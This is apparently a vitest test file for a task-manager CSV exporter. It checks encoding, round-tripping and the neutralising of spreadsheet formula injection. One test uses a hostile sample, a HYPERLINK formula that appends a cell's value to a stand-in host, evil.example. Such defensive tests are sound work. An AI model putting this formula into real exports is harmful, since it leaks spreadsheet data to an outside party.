import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Task } from '../schemas/task.schema';
import { BOM, TASK_CSV_COLUMNS, tasksCsv, tasksCsvFileName } from './tasks-csv';

const task = (over: Partial<Task> = {}): Task => ({
	_id: 'task:01HZZZZZZZZZZZZZZZZZZZZZZZ',
	type: 'task',
	project: 'project:01HZZZZZZZZZZZZZZZZZZZZZZY',
	title: 'Check the pumps',
	description: '',
	status: 'todo',
	priority: 'medium',
	assignee: null,
	reporter: 'ann',
	due: null,
	start: null,
	estimate: null,
	tags: [],
	parent: null,
	dependencies: [],
	rank: 'a0',
	completedAt: null,
	deletedAt: null,
	clocks: {},
	createdBy: 'ann',
	createdAt: '2026-01-02T03:04:05.000Z',
	updatedAt: '2026-01-02T03:04:05.000Z',
	...over
});

const ctx = { projectName: (id: string) => (id.endsWith('Y') ? 'Pumps, north' : id) };

const parse = (csv: string) => Papa.parse<string[]>(csv.slice(BOM.length), { newline: '\r\n' });

describe('tasksCsv', () => {
	it('starts with a BOM and the header, ends lines with CRLF', () => {
		const csv = tasksCsv([], ctx);
		expect(csv).toBe(`${BOM}${TASK_CSV_COLUMNS.join(',')}\r\n`);
	});

	it('writes every column and round-trips through a CSV parser', () => {
		const t = task({
			title: 'Say "hi", then leave',
			description: 'line one\nline two, ünïcode',
			status: 'done',
			priority: 'high',
			assignee: 'bob',
			due: '2026-02-01',
			start: '2026-01-20',
			estimate: 1.5,
			tags: ['field', 'urgent fix'],
			parent: 'task:01HZZZZZZZZZZZZZZZZZZZZZZX',
			completedAt: '2026-01-25T10:00:00.000Z'
		});
		const rows = parse(tasksCsv([t], ctx)).data.filter((r) => r.length > 1);
		expect(rows[1]).toEqual([
			t._id,
			'Say "hi", then leave',
			'done',
			'high',
			'bob',
			'2026-02-01',
			'2026-01-20',
			'1.5',
			'field, urgent fix',
			'task:01HZZZZZZZZZZZZZZZZZZZZZZX',
			'Pumps, north',
			'2026-01-02T03:04:05.000Z',
			'2026-01-25T10:00:00.000Z',
			'line one\nline two, ünïcode'
		]);
	});

	it('neutralises cells that a spreadsheet would run as formulas', () => {
		const csv = tasksCsv(
			[
				task({ title: '=HYPERLINK("http://x")' }),
				task({ title: '+1' }),
				task({ title: '-2' }),
				task({ title: '@SUM(A1)' }),
				task({ title: 'a = b' })
			],
			ctx
		);
		const titles = parse(csv)
			.data.slice(1)
			.filter((r) => r.length > 1)
			.map((r) => r[1]);
		expect(titles).toEqual(['\'=HYPERLINK("http://x")', "'+1", "'-2", "'@SUM(A1)", 'a = b']);
	});

	it('neutralises formulas in multi-line cells and on every line of them', () => {
		const csv = tasksCsv(
			[
				task({
					title: '=1+1\nsecond line',
					description: 'notes\n=HYPERLINK("http://evil.example/?"&A1,"open")'
				}),
				task({ title: ' @SUM(A1)', description: '+cmd\r\n-2, "quoted"\r\n\tindent' }),
				task({ title: 'ok', tags: ['-x', 'y'] })
			],
			{ projectName: () => '=evil\nname' }
		);
		const rows = parse(csv).data.filter((r) => r.length > 1);
		expect(rows.slice(1).map((r) => [r[1], r[13], r[8], r[10]])).toEqual([
			[
				"'=1+1\nsecond line",
				'notes\n\'=HYPERLINK("http://evil.example/?"&A1,"open")',
				'',
				"'=evil\nname"
			],
			["' @SUM(A1)", "'+cmd\r\n'-2, \"quoted\"\r\n'\tindent", '', "'=evil\nname"],
			['ok', '', "'-x, y", "'=evil\nname"]
		]);
		// Each line of every cell, as an importer that splits lines would see it.
		for (const line of rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/))) {
			expect(line).not.toMatch(/^(\t|\s*[=+\-@])/);
		}
	});

	it('keeps the given order', () => {
		const a = task({ _id: 'task:01HZZZZZZZZZZZZZZZZZZZZZZA', title: 'A' });
		const b = task({ _id: 'task:01HZZZZZZZZZZZZZZZZZZZZZZB', title: 'B' });
		const titles = parse(tasksCsv([b, a], ctx))
			.data.slice(1)
			.filter((r) => r.length > 1)
			.map((r) => r[1]);
		expect(titles).toEqual(['B', 'A']);
	});
});

describe('tasksCsvFileName', () => {
	it('names the project and the day', () => {
		expect(tasksCsvFileName('pumps', new Date('2026-03-04T23:00:00Z'))).toBe(
			'taskflow-pumps-tasks-2026-03-04.csv'
		);
	});
});
